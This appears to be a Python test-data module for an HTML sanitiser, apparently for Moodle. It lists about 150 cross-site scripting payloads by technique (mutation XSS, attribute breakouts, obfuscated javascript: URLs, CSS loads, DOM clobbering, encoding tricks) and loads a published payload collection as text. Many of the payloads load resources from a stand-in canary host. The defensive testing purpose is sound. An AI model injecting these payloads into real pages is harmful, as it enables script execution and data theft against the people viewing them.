"""Attacks on people who look at a page: a public collection, and our own of the classes that it is thin on.

brs-kb (MIT) gathers what PayloadsAllTheThings, SecLists, PortSwigger's cheat sheet and others have published. It is
read as text and never imported: a collection of attacks is no code to run.
"""

import ast
from collections.abc import Iterator
from functools import cache
from importlib.metadata import distribution
from pathlib import Path

EVIL = "https://canary.example"
"""Where attacks of ours would send what they stole. No test reaches it; one that asks for it has failed."""

RUN = "window.__xss=1"

OWN: dict[str, tuple[str, ...]] = {
    "a second parser reads another tree": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=nowhere onerror={RUN}&gt;">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src=nowhere onerror={RUN}>",
        f'<svg></p><style><a id="</style><img src=nowhere onerror={RUN}>">',
        f"<svg><style><img src=nowhere onerror={RUN}></style></svg>",
        f"<math><annotation-xml encoding='text/html'><style></math><img src=nowhere onerror={RUN}></style></math>",
        f'<noscript><p title="</noscript><img src=nowhere onerror={RUN}>"></noscript>',
        f'<xmp><p title="</xmp><img src=nowhere onerror={RUN}>"></xmp>',
        f'<noembed><img title="</noembed><img src=nowhere onerror={RUN}>"></noembed>',
        f'<iframe><img title="</iframe><img src=nowhere onerror={RUN}>"></iframe>',
        f'<title><img title="</title><img src=nowhere onerror={RUN}>"></title>',
        f'<textarea><img title="</textarea><img src=nowhere onerror={RUN}>"></textarea>',
        f"<template><p>x<script>{RUN}</script></p></template>",
        f"<select><template><style><!--</style><img src=nowhere onerror={RUN}>--></template></select>",
        f"<table><caption><svg><desc><table><tr><td></caption></svg><img src=nowhere onerror={RUN}>",
        f"<p><svg><foreignObject><p><img src=nowhere onerror={RUN}></p></foreignObject></svg>",
        f"<!--<img src='--><img src=nowhere onerror={RUN}>'>",
        f"<!--!><img src=nowhere onerror={RUN}>-->",
        f"<![CDATA[><img src=nowhere onerror={RUN}>]]>",
        f"<?xml version='1.0'?><img src=nowhere onerror={RUN}>",
        f"<listing>&lt;img src=nowhere onerror={RUN}&gt;</listing>",
        f"<plaintext><img src=nowhere onerror={RUN}>",
    ),
    "an attribute is broken out of": (
        f'<p title="x" onmouseover="{RUN}" style="position:fixed;inset:0">x</p>',
        f"<p title='a\"onmouseover={RUN} b'>x</p>",
        f"<p title=`onmouseover={RUN}`>x</p>",
        f'<a href="https://e.org/&quot; onclick=&quot;{RUN}">x</a>',
        f'<img alt="&quot;&gt;&lt;img src=nowhere onerror={RUN}&gt;" src="https://e.org/p.png">',
        f"<img/src='https://e.org/p.png'/onerror={RUN}>",
        f"<img\x0csrc=nowhere\x0conerror={RUN}>",
        f'<p lang="&#34;&#62;&#60;script&#62;{RUN}">x</p>',
        f'<p/class="language-x&quot;onclick={RUN}">x</p>',
        f'<td colspan="2&quot; onclick=&quot;{RUN}">x</td>',
    ),
    "an address runs a script": (
        f'<a href="javascript:{RUN}">x</a>',
        f'<a href="JaVaScRiPt:{RUN}">x</a>',
        f'<a href="java\tscript:{RUN}">x</a>',
        f'<a href="java\nscript:{RUN}">x</a>',
        f'<a href="java&Tab;script:{RUN}">x</a>',
        f'<a href="javascript&colon;{RUN}">x</a>',
        f'<a href="&#x6A;avascript&#58;{RUN}">x</a>',
        f'<a href="&#0000106&#0000097vascript:{RUN}">x</a>',
        f'<a href="\x01javascript:{RUN}">x</a>',
        f'<a href="\x00java\x00script:{RUN}">x</a>',
        f'<a href=" \u00a0javascript:{RUN}">x</a>',
        f'<a href="\u200bjavascript:{RUN}">x</a>',
        f'<a href="\uff4aavascript:{RUN}">x</a>',
        f'<a href="javascript://e.org/%0a{RUN}">x</a>',
        f'<a href="feed:javascript:{RUN}">x</a>',
        f'<a href="view-source:javascript:{RUN}">x</a>',
        f'<a href="item:javascript:{RUN}">x</a>',
        f'<img src="asset:javascript:{RUN}">',
        '<a href="vbscript:msgbox(1)">x</a>',
        f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
        f'<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{RUN}&quot;/>">',
        f"[x](javascript:{RUN})",
        f"[x](java&#10;script:{RUN})",
        f"![x](javascript:{RUN})",
        f"<javascript:{RUN}>",
        f"[x]: javascript:{RUN}\n\n[x]",
    ),
    "a style acts": (
        f'<p style="background:url(javascript:{RUN})">x</p>',
        f'<p style="width:expression({RUN})">x</p>',
        f"<style>@import '{EVIL}/x.css';</style>",
        f'<style>p{{background:url("{EVIL}/x")}}</style>',
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        f'<p style="behavior:url({EVIL}/x.htc)">x</p>',
        f'<div style="position:fixed;inset:0;background:url({EVIL}/x)">x</div>',
    ),
    "something is loaded": (
        f'<img srcset="{EVIL}/x 1x" src="https://e.org/p.png">',
        f'<picture><source srcset="{EVIL}/x"><img src="https://e.org/p.png"></picture>',
        f'<video poster="{EVIL}/x"><source src="{EVIL}/y" onerror={RUN}></video>',
        f'<audio src="{EVIL}/x" onerror={RUN} autoplay></audio>',
        f'<iframe src="{EVIL}/x"></iframe>',
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f'<object data="{EVIL}/x"></object><embed src="{EVIL}/x">',
        f'<link rel="prefetch" href="{EVIL}/x"><link rel="dns-prefetch" href="{EVIL}">',
        f'<meta http-equiv="refresh" content="0;url={EVIL}/x">',
        f'<base href="{EVIL}/"><a href="x">x</a>',
        f'<a href="https://e.org/" ping="{EVIL}/x">x</a>',
        f'<body background="{EVIL}/x"><table background="{EVIL}/x"><tr><td background="{EVIL}/x">x</td></tr></table>',
        f'<svg><image href="{EVIL}/x"/><use href="{EVIL}/x#y"/></svg>',
        f'<input type="image" src="{EVIL}/x"><form action="{EVIL}/x"><button formaction="{EVIL}/y">x</button></form>',
        f'<script src="{EVIL}/x.js"></script><script type="module">import "{EVIL}/y.js"</script>',
        '<a href="//canary.example/x">x</a><img src="//canary.example/x">',
        '<a href="\\\\canary.example/x">x</a>',
    ),
    "the page's own names are taken": (
        '<img name="cookie" src="https://e.org/p.png">',
        '<form id="document"><input name="body"></form>',
        '<a id="config"></a><a id="config" name="url" href="https://e.org/x">x</a>',
        '<p id="region-main">x</p>',
        '<iframe name="self" srcdoc=""></iframe>',
        '<p slot="x" is="y-z" part="q" itemprop="u" data-toggle="modal" aria-hidden="true" tabindex="1">x</p>',
    ),
    "a handler acts": tuple(
        f"<{element} {handler}={RUN}>x</{element}>"
        for element in ("p", "img src=x", "details open", "marquee", "svg", "body", "x-y", "p popover", "math")
        for handler in ("onerror", "onload", "ontoggle", "onbegin", "onfocus autofocus tabindex=1", "onbeforematch")
    ),
    "signs that are not what they seem": (
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"<\u017fcript>{RUN}</\u017fcript>",
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"<script\x00>{RUN}</script>",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u202e<script>{RUN}</script>\u202c",
        f"<img src=nowhere onerror\u2028={RUN}>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
        f"\\<script>{RUN}\\</script>",
        "\ufdd0\ufffe\uffff\ud83d",
    ),
    "Moodle's own signs": (
        f"[[x|<img src=nowhere onerror={RUN}>]]",
        f"[[<script>{RUN}</script>]]",
        f"[[x|y](javascript:{RUN})]]",
        f'<p title="[[x|&lt;script&gt;{RUN}&lt;/script&gt;]]">x</p>',
        f'<img alt="[[x]]" src="https://e.org/p.png"><a href="https://e.org/[[x|{RUN}]]">x</a>',
        "%!1!% %!nowiki!% <p title='%!0!%'>x</p>",
        f"@@PLUGINFILE@@/<script>{RUN}</script> <a href='@@PLUGINFILE@@/x.html'>x</a>",
        f"<nowiki><script>{RUN}</script></nowiki>",
        f"{{mlang en}}<script>{RUN}</script>{{mlang}} $$\\href{{javascript:{RUN}}}{{x}}$$",
        f'https://e.org/"onmouseover={RUN}//',
        f"https://e.org/<script>{RUN}</script>",
        '<p class="lmsb lmsb-aaaaaaaaaaaaaaaa">not ours</p>',
        '<p class="nolink wiki_newentry"><a class="autolink" href="https://e.org">x</a></p>',
    ),
}


def own() -> Iterator[str]:
    for attacks in OWN.values():
        yield from attacks


@cache
def published() -> tuple[str, ...]:
    """Every attack of the public collection that is written out in it, each once."""
    found: dict[str, None] = {}
    for path in _payload_files():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg == "payload" and isinstance(node.value, ast.Constant):
                found[str(node.value.value)] = None
    return tuple(found)


def _payload_files() -> list[Path]:
    files = distribution("brs-kb").files or []
    return [
        Path(str(file.locate()))
        for file in files
        if file.suffix == ".py" and file.as_posix().startswith("brs_kb/payloads/")
    ]


def every() -> list[str]:
    return [*own(), *published()]
